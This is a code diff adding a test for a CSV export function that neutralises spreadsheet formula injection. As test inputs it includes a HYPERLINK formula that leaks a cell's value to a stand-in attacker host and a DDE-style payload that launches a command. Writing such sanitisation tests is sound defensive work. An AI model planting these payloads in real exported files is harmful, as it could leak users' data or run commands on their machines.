@@ -2,7 +2,7 @@ import { describe, expect, it } from "vitest";
 import type { StockRow, Store } from "../api/types";
 import { store, transferLine } from "../test/factories";
 import { clusterMeanBalances, planBalances } from "./balance";
-import { toCsv } from "./csv";
+import { FORMULA_TRIGGERS, neutralise, toCsv } from "./csv";
 import { arrowHead, balanceRadius, clusterHull, haversineKm, routeWeight } from "./geometry";
 import { CLUSTER_COLOURS, clusterColour, sortClusterLabels } from "./palette";
 
@@ -73,6 +73,34 @@ describe("toCsv", () => {
       ["a", "b"],
     );
     expect(text).toBe('a,b\r\n"say ""hi""","x,y"\r\nplain,\r\n');
+  });
+
+  it("neutralises text cells a spreadsheet would run as formulas, not negative numbers", () => {
+    const text = toCsv(
+      [
+        { id: '=HYPERLINK("http://evil.example/?"&A1,"x")', q: -3 },
+        { id: "+cmd|' /C calc'!A0", q: 4 },
+        { id: "-2+3", q: -0.5 },
+        { id: "@SUM(1+1)", q: 0 },
+        { id: "\tT", q: 1 },
+        { id: "\rR", q: 2 },
+        { id: "S1", q: -7 },
+      ],
+      ["id", "q"],
+    );
+    expect(text.split("\r\n")).toEqual([
+      "id,q",
+      '"\'=HYPERLINK(""http://evil.example/?""&A1,""x"")",-3',
+      "\"'+cmd|' /C calc'!A0\",4",
+      '"\'-2+3",-0.5',
+      '"\'@SUM(1+1)",0',
+      '"\'\tT",1',
+      '"\'\rR",2',
+      "S1,-7",
+      "",
+    ]);
+    for (const trigger of FORMULA_TRIGGERS) expect(neutralise(`${trigger}x`)).toBe(`'${trigger}x`);
+    expect(neutralise("a=b")).toBe("a=b");
   });
 });
 
